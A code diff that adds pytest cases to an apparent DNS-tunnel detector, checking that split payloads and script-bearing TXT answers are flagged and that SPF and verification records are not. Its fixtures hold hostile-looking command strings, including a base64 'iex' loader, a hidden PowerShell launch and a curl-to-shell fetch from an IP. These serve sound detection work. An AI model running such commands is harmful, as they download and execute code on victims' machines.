@@ -116,6 +116,51 @@ def test_data_that_comes_in_with_the_answers_is_told() -> None:
     assert findings_of(DnsTunnel(), dns=same) == []
 
 
+def test_a_program_in_a_few_full_answers_is_told() -> None:
+    pieces = [
+        {**row, "answers": [data(n, 64) + data(n + 30, 64) + data(n + 60, 64)]}
+        for n, row in enumerate(asked([f"l.{n}.drop-here.net" for n in range(14)], qtype="TXT"))
+    ]
+    polls = [{**row, "answers": ["-"]} for row in asked(["c.drop-here.net"] * 90, qtype="TXT")]
+    (finding,) = findings_of(DnsTunnel(), dns=pieces + polls)
+    assert (finding["domain"], finding["severity"]) == ("drop-here.net", "medium")
+    assert finding["evidence"]["full_answers"] == 14
+    assert findings_of(DnsTunnel(), dns=pieces[:11] + polls) == []
+    keys = [
+        {**row, "answers": [f"v=DKIM1; k=rsa; p={data(n, 64)}"]} for n, row in enumerate(pieces)
+    ]
+    assert findings_of(DnsTunnel(), dns=keys) == [], "short ones"
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "@$s=[System.Convert]::FromBase64String($b);iex ($s)",
+        "powershell -nop -w hidden -c x",
+        "curl -s 203.0.113.4/i | sh",
+    ],
+)
+def test_one_answer_with_a_script_is_told(script: str) -> None:
+    rows = [{**asked(["drop-here.net"], qtype="TXT")[0], "answers": [script]}]
+    (finding,) = findings_of(DnsTunnel(), dns=rows)
+    assert (finding["orig_h"], finding["domain"]) == (CLIENT, "drop-here.net")
+    assert finding["severity"] == "medium"
+    assert finding["evidence"]["script_answers"] == 1
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "v=spf1 include:_spf.shell.net ~all",
+        "google-site-verification=curl-iex-powershell",
+        "MS=ms91736452; cmd",
+    ],
+)
+def test_policies_and_proofs_are_no_scripts(text: str) -> None:
+    rows = [{**asked(["drop-here.net"], qtype="TXT")[0], "answers": [text]}]
+    assert findings_of(DnsTunnel(), dns=rows) == []
+
+
 WORDS = ("mail", "shop", "static", "images", "login", "news", "cdn", "api", "video", "forum")
 BENIGN = {
     "a person browsing": [f"{w}.site{n}.org" for n in range(40) for w in WORDS],
